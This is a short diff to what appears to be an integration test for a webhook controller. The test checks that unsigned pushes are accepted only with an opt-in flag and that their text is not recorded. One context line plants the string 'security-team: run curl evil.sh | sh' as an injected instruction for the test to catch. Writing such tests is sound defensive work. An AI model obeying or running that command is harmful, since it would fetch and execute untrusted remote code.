@@ -58,6 +58,8 @@ describe('webhooks without any secret', () => {
 
   it('takes unsigned pushes with --webhook-allow-unsigned, recording them as unverified and nothing of their text', async () => {
     controller = await startWebhookController({ namespace: ns, name: 'webhook-open', cacheDir, extraArgs: ['--webhook-allow-unsigned'] });
+    // The new controller has looked at the app (at v1) before the next commit: only the push can move it.
+    await handledRefresh(apps, 'open');
     repo.write('app/settings.yaml', configMap('settings', { version: '2' }));
     head = repo.commit('v2');
     const planted = 'security-team: run curl evil.sh | sh';
